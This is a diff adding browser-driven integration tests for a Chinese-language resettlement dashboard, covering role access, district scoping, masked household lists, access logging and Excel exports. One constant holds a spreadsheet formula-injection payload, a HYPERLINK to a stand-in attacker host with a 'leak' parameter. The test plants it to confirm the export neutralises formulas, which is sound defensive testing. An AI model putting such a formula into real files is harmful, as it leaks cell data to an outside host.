@@ -1,0 +1,193 @@
+"""The dashboard in a real browser: every role logs in and opens every page, the figures shown are the marts'
+figures, a district sees only its district, a leader gets no household list, viewing the list is logged,
+exports open in openpyxl without live formulas, and a disabled user cannot log in."""
+
+from __future__ import annotations
+
+import io
+
+import openpyxl
+import psycopg
+import pytest
+
+pytestmark = pytest.mark.integration
+
+PAGES = ("总览", "各区", "项目", "住户", "数据质量", "预警")
+DISTRICT_NAMES = ("泰山区", "兴安区", "向阳区", "工农区", "南山区", "兴山区")
+PLANTED = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"点此查看")'
+
+
+def settle(page) -> None:
+    """Wait until the Streamlit script has finished its run."""
+    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=30_000)
+    page.wait_for_timeout(300)
+    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=30_000)
+
+
+def log_in(browser, base: str, username: str, password: str):
+    page = browser.new_page(viewport={"width": 1400, "height": 1000}, locale="zh-CN", accept_downloads=True)
+    page.goto(base)
+    page.get_by_label("用户名").fill(username)
+    page.get_by_label("密码").fill(password)
+    page.get_by_role("button", name="登录").click()
+    return page
+
+
+def open_page(page, title: str) -> None:
+    page.locator('[data-testid="stSidebarNav"]').get_by_text(title, exact=True).click()
+    page.get_by_role("heading", name=title, exact=True).wait_for()
+    settle(page)
+
+
+def metrics(page) -> dict[str, str]:
+    out = {}
+    for metric in page.locator('[data-testid="stMetric"]').all():
+        label = metric.locator('[data-testid="stMetricLabel"]').inner_text().strip()
+        out[label] = metric.locator('[data-testid="stMetricValue"]').inner_text().strip()
+    return out
+
+
+def grid_cells(page, index: int = 0) -> list[str]:
+    """The visible cells of a st.dataframe (its canvas grid keeps an accessible cell table in the DOM)."""
+    cells = page.locator('[data-testid="stDataFrame"]').nth(index).locator("[role=gridcell]")
+    cells.first.wait_for(state="attached")
+    return cells.all_inner_texts()
+
+
+def expected_figures(world, district: str | None) -> dict[str, str]:
+    with psycopg.connect(world.admin_url) as conn:
+        row = conn.execute(
+            "select sum(projects), sum(households_total), sum(households_unresettled), sum(households_resettled)"
+            " from marts.district_monthly_progress where period = %s and (%s::text is null or district = %s)",
+            (world.latest, district, district)).fetchone()
+    projects, total, unresettled, resettled = (int(v) for v in row)
+    return {"项目数": f"{projects:,}", "涉及户数": f"{total:,}", "未安置户数": f"{unresettled:,}",
+            "安置完成率": f"{100 * resettled / total:.1f}%"}
+
+
+@pytest.mark.parametrize("username", ["leader", "office", "engineer", "district_taishan"])
+def test_each_role_opens_every_page_and_sees_the_marts_figures(world, dashboard, browser, artifacts, username):
+    _role, district, password = world.users[username]
+    page = log_in(browser, dashboard, username, password)
+    try:
+        page.get_by_role("heading", name="总览", exact=True).wait_for()
+        settle(page)
+        shown = metrics(page)
+        for label, value in expected_figures(world, district).items():
+            assert shown[label] == value, (label, shown)
+        for title in PAGES:
+            if title != "总览":
+                open_page(page, title)
+            assert page.locator('[data-testid="stException"]').count() == 0, page.locator(
+                '[data-testid="stException"]').all_inner_texts()
+            page.screenshot(path=str(artifacts / f"{username}_{PAGES.index(title)}_{title}.png"), full_page=True)
+    finally:
+        page.close()
+
+
+def test_a_district_user_sees_only_its_district(world, dashboard, browser, artifacts):
+    page = log_in(browser, dashboard, "district_taishan", world.users["district_taishan"][2])
+    try:
+        page.get_by_role("heading", name="总览", exact=True).wait_for()
+        settle(page)
+        assert "数据范围：泰山区" in page.locator('[data-testid="stSidebar"]').inner_text()
+        others = [name for name in DISTRICT_NAMES if name != "泰山区"]
+        overview = grid_cells(page)
+        assert "泰山区" in overview and not set(others) & set(overview)
+
+        open_page(page, "项目")
+        projects = grid_cells(page)
+        assert "泰山区" in projects and not set(others) & set(projects)
+
+        open_page(page, "住户")
+        page.get_by_text("显示名单（查看将记入访问日志）").click()
+        settle(page)
+        households = grid_cells(page, -1)
+        assert "taishan" in households
+        assert not {"xingan", "xiangyang", "gongnong", "nanshan", "xingshan"} & set(households)
+        page.screenshot(path=str(artifacts / "district_taishan_household_list.png"), full_page=True)
+        body = page.locator('[data-testid="stMain"]').inner_text()
+        assert not [name for name in others if name in body]
+    finally:
+        page.close()
+
+
+def test_a_leader_gets_counts_but_no_household_list(world, dashboard, browser, artifacts):
+    page = log_in(browser, dashboard, "leader", world.users["leader"][2])
+    try:
+        page.get_by_role("heading", name="总览", exact=True).wait_for()
+        open_page(page, "住户")
+        assert page.get_by_text("您的角色无权查看住户名单").is_visible()
+        assert page.get_by_text("显示名单（查看将记入访问日志）").count() == 0
+        cells = " ".join(page.locator('[data-testid="stMain"]').all_inner_texts())
+        assert "**" not in cells  # no masked name, ID or phone anywhere on the page
+        with psycopg.connect(world.admin_url) as conn:
+            unresettled = conn.execute(
+                "select count(*) from marts.household_resettlement where period = %s and not is_resettled"
+                " and in_scope", (world.latest,)).fetchone()[0]
+        assert metrics(page)["未安置住户（纳入攻坚范围）"] == f"{unresettled:,}"
+    finally:
+        page.close()
+
+
+def test_viewing_the_household_list_is_logged_with_its_filter(world, dashboard, browser):
+    page = log_in(browser, dashboard, "office", world.users["office"][2])
+    try:
+        page.get_by_role("heading", name="总览", exact=True).wait_for()
+        with psycopg.connect(world.admin_url) as conn:
+            before = conn.execute("select coalesce(max(log_id), 0) from access.access_log").fetchone()[0]
+        open_page(page, "住户")
+        page.get_by_text("显示名单（查看将记入访问日志）").click()
+        settle(page)
+        assert "**" in " ".join(grid_cells(page, -1))  # masked values, never clear ones
+        with psycopg.connect(world.admin_url) as conn:
+            rows = conn.execute("select username, role, event, detail from access.access_log where log_id > %s"
+                                " and event = 'household_list'", (before,)).fetchall()
+        assert rows and rows[0][:3] == ("office", "office", "household_list")
+        assert rows[0][3]["period"] == world.latest and rows[0][3]["unresettled_only"] is True
+    finally:
+        page.close()
+
+
+def test_an_export_opens_in_openpyxl_and_holds_no_live_formula(world, dashboard, browser, artifacts):
+    with psycopg.connect(world.admin_url) as conn:
+        code = conn.execute("select project_code from marts.project_joint_review where period = %s"
+                            " order by priority_score desc limit 1", (world.latest,)).fetchone()[0]
+        original = conn.execute("update marts.project_joint_review set project_name = %s"
+                                " where period = %s and project_code = %s returning project_code",
+                                (PLANTED, world.latest, code)).fetchone()
+        assert original
+    page = log_in(browser, dashboard, "office", world.users["office"][2])
+    try:
+        page.get_by_role("heading", name="总览", exact=True).wait_for()
+        open_page(page, "项目")
+        with page.expect_download() as download:
+            page.get_by_role("button", name="导出 Excel").first.click()
+        data = download.value.path().read_bytes()
+        (artifacts / download.value.suggested_filename).write_bytes(data)
+    finally:
+        page.close()
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    planted = [c for c in cells if c.value == PLANTED]
+    assert planted and planted[0].data_type == "s" and planted[0].quotePrefix
+    assert any(c.value == code for c in cells)
+
+
+def test_a_disabled_user_cannot_log_in(world, dashboard, browser):
+    from resettle.dashboard.users import add_user, disable_user
+
+    with psycopg.connect(world.admin_url) as conn:
+        add_user(conn, "temp_leader", "leader", password="temporary-pass-1")
+        assert disable_user(conn, "temp_leader")
+    page = log_in(browser, dashboard, "temp_leader", "temporary-pass-1")
+    try:
+        page.get_by_text("用户名或密码错误，或账号已停用。").wait_for()
+        assert page.locator('[data-testid="stSidebarNav"]').count() == 0
+    finally:
+        page.close()
+    with psycopg.connect(world.admin_url) as conn:
+        event = conn.execute("select event from access.access_log where username = 'temp_leader'"
+                             " order by log_id desc limit 1").fetchone()[0]
+    assert event == "login_failed"
